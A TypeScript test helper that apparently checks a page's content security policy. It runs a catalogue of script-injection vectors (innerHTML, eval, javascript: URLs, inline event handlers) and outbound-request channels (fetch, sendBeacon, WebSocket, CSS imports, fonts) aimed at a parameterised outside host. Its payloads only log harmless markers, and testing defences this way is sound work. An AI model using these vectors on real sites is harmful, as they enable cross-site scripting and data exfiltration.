/**
 * Runs in a page: everything by which markup or a script that got in could run code or reach another server. Code that ran
 * leaves its name in `window.ran`, a request that went out its name in the path.
 */
export const attackPage = async (outside: string): Promise<void> => {
  const page = window as unknown as { ran: string[] }
  page.ran = []
  const code = (name: string) => `(window.ran ?? parent.ran).push('${name}')`
  const image = (name: string) => `<img src="/none.png" onerror="${code(name)}">`
  const room = (): HTMLElement => {
    const made = document.createElement('div')
    document.body.append(made)
    return made
  }
  const make = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    made.append(text)
    document.body.append(made)
    return made
  }
  const parsed = (html: string) =>
    document.body.append(...new DOMParser().parseFromString(html, 'text/html').body.childNodes)
  const svg = (tag: string, attributes: Record<string, string>): SVGElement => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const made = document.createElementNS('http://www.w3.org/2000/svg', tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    drawing.append(made)
    document.body.append(drawing)
    return made
  }

  const acts: (() => unknown)[] = [
    // markup in text
    () => Object.assign(room(), { innerHTML: image('innerHTML') }),
    () => Object.assign(room().appendChild(document.createElement('p')), { outerHTML: image('outerHTML') }),
    () => room().insertAdjacentHTML('beforeend', image('insertAdjacentHTML')),
    () => room().append(document.createRange().createContextualFragment(image('fragment'))),
    () => room().setHTMLUnsafe(image('setHTMLUnsafe')),
    () => make('iframe', { srcdoc: `<script>${code('srcdoc')}</script>` }),
    // code in text
    // biome-ignore lint/security/noGlobalEval: this is what the policy has to stop.
    () => globalThis.eval(code('eval')),
    () => new Function(code('Function'))(),
    () => setTimeout(code('timer')),
    () => make('script', {}, code('inline script')),
    () => make('script', { src: `data:text/javascript,${code('data script')}` }),
    () => make('script', { src: URL.createObjectURL(new Blob([code('blob script')], { type: 'text/javascript' })) }),
    () => svg('script', {}).append(code('script in a drawing')),
    // code in attributes
    () => parsed(image('handler')),
    () => make('img', { src: '/none.png', onerror: code('onerror') }),
    () => make('button', { onclick: code('onclick') }).click(),
    () => parsed(`<details open ontoggle="${code('ontoggle')}">x</details>`),
    () => make('a', { href: `javascript:${code('link')}` }).click(),
    () => make('iframe', { src: `javascript:${code('frame')}` }),
    () => (make('form', { action: `javascript:${code('form')}` }) as HTMLFormElement).requestSubmit(),
    // requests of elements
    () => make('script', { src: `${outside}/script` }),
    () => make('script', { src: `${outside}/module`, type: 'module' }),
    () => make('img', { src: `${outside}/img` }),
    () => parsed(`<img src="${outside}/parsed-img">`),
    () => make('img', { srcset: `${outside}/srcset 2x` }),
    () => make('video', { src: `${outside}/video`, preload: 'auto' }),
    () => make('video', { poster: `${outside}/poster` }),
    () => make('audio', { src: `${outside}/audio`, preload: 'auto' }),
    () => make('iframe', { src: `${outside}/iframe` }),
    () => make('object', { data: `${outside}/object` }),
    () => make('embed', { src: `${outside}/embed` }),
    () => svg('image', { href: `${outside}/svg-image`, width: '9', height: '9' }),
    () => make('link', { rel: 'stylesheet', href: `${outside}/stylesheet` }),
    () => make('link', { rel: 'preload', as: 'image', href: `${outside}/preload` }),
    () => make('link', { rel: 'prefetch', href: `${outside}/prefetch` }),
    () => make('link', { rel: 'modulepreload', href: `${outside}/modulepreload` }),
    () => make('style', {}, `@import url('${outside}/import')`),
    () => make('p', { style: `background: url('${outside}/background')` }, 'x'),
    () => make('style', {}, `@font-face { font-family: stolen; src: url('${outside}/font') }`),
    () => make('p', { style: 'font-family: stolen' }, 'x'),
    () => make('iframe', { name: 'target' }),
    () => (make('form', { action: `${outside}/form`, target: 'target' }) as HTMLFormElement).submit(),
    () => make('a', { href: '#', ping: `${outside}/ping` }).click(),
    () => make('base', { href: `${outside}/base/` }),
    () => make('img', { src: 'after' }),
    () => document.querySelector('base[href]')?.remove(),
    // requests of scripts
    () => fetch(`${outside}/fetch`, { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${outside}/xhr`)
      request.send()
    },
    () => navigator.sendBeacon(`${outside}/beacon`, 'x'),
    () => new EventSource(`${outside}/events`),
    () => new WebSocket(`${outside.replace('http', 'ws')}/socket`),
    () => new Worker(URL.createObjectURL(new Blob([`importScripts('${outside}/worker')`]))),
  ]
  // Whoever drives the browser may use eval: these have to run as a page's own code runs.
  await new Promise<void>((done) => {
    setTimeout(async () => {
      // A refusal comes as an exception or as a broken promise; what counts is what ran and what was asked for.
      for (const act of acts) await Promise.try(act).catch(() => undefined)
      done()
    })
  })
}
